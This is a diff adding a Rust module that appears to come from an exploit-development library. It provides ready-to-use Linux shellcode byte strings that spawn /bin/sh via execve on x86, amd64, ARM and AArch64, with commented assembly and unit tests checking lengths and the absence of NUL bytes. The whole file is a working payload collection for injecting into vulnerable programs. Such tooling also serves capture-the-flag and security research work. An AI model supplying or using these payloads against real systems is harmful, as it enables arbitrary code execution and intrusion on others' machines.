@@ -0,0 +1,82 @@
+use anyhow::{bail, Result};
+use std::str::FromStr;
+
+// architectures there is shellcode for
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Arch {
+    X86,
+    Amd64,
+    Arm,
+    Aarch64,
+}
+
+impl FromStr for Arch {
+    type Err = anyhow::Error;
+
+    fn from_str(s: &str) -> Result<Self> {
+        match s.trim().to_lowercase().as_str() {
+            "x86" | "i386" => Ok(Arch::X86),
+            "amd64" | "x86_64" | "x86-64" => Ok(Arch::Amd64),
+            "arm" => Ok(Arch::Arm),
+            "aarch64" | "arm64" => Ok(Arch::Aarch64),
+            other => bail!("Unknown architecture {}", other),
+        }
+    }
+}
+
+// xor eax, eax; push eax; push "//sh"; push "/bin"; mov ebx, esp; push eax; push ebx;
+// mov ecx, esp; cdq; mov al, 0xb; int 0x80
+const SH_X86: &[u8] = b"\x31\xc0\x50\x68\x2f\x2f\x73\x68\x68\x2f\x62\x69\x6e\x89\xe3\x50\x53\x89\xe1\x99\xb0\x0b\xcd\x80";
+
+// xor eax, eax; movabs rbx, ~"/bin/sh\0"; neg rbx; push rbx; push rsp; pop rdi; cdq; push rdx;
+// push rdi; push rsp; pop rsi; mov al, 0x3b; syscall
+const SH_AMD64: &[u8] = b"\x31\xc0\x48\xbb\xd1\x9d\x96\x91\xd0\x8c\x97\xff\x48\xf7\xdb\x53\x54\x5f\x99\x52\x57\x54\x5e\xb0\x3b\x0f\x05";
+
+// adr r0, binsh; eor r1, r1, r1; eor r2, r2, r2; mov r7, #11; svc #0; binsh: "/bin/sh\0"
+const SH_ARM: &[u8] =
+    b"\x0c\x00\x8f\xe2\x01\x10\x21\xe0\x02\x20\x22\xe0\x0b\x70\xa0\xe3\x00\x00\x00\xef/bin/sh\x00";
+
+// adr x0, binsh; mov x1, xzr; mov x2, xzr; mov x8, #221; svc #0; binsh: "/bin/sh\0"
+const SH_AARCH64: &[u8] =
+    b"\xa0\x00\x00\x10\xe1\x03\x1f\xaa\xe2\x03\x1f\xaa\xa8\x1b\x80\xd2\x01\x00\x00\xd4/bin/sh\x00";
+
+// linux shellcode that runs execve("/bin/sh"). the x86 variants are free of NUL bytes,
+// the arm variants are not
+pub fn sh(arch: Arch) -> Vec<u8> {
+    match arch {
+        Arch::X86 => SH_X86,
+        Arch::Amd64 => SH_AMD64,
+        Arch::Arm => SH_ARM,
+        Arch::Aarch64 => SH_AARCH64,
+    }
+    .to_vec()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_sh() {
+        assert_eq!(sh(Arch::X86), SH_X86);
+        assert_eq!(sh(Arch::Amd64), SH_AMD64);
+        assert_eq!(sh(Arch::Arm), SH_ARM);
+        assert_eq!(sh(Arch::Aarch64), SH_AARCH64);
+
+        assert_eq!(SH_X86.len(), 24);
+        assert_eq!(SH_AMD64.len(), 27);
+        assert!(!SH_X86.contains(&0) && !SH_AMD64.contains(&0));
+
+        // the arm variants end with the path and their syscall instruction
+        assert!(SH_ARM.ends_with(b"\x00\x00\x00\xef/bin/sh\x00"));
+        assert!(SH_AARCH64.ends_with(b"\x01\x00\x00\xd4/bin/sh\x00"));
+    }
+
+    #[test]
+    fn test_arch_from_str() {
+        assert_eq!("x86_64".parse::<Arch>().unwrap(), Arch::Amd64);
+        assert_eq!(" ARM64 ".parse::<Arch>().unwrap(), Arch::Aarch64);
+        assert_eq!("i386".parse::<Arch>().unwrap(), Arch::X86);
+        assert!("mips".parse::<Arch>().is_err());
+    }
+}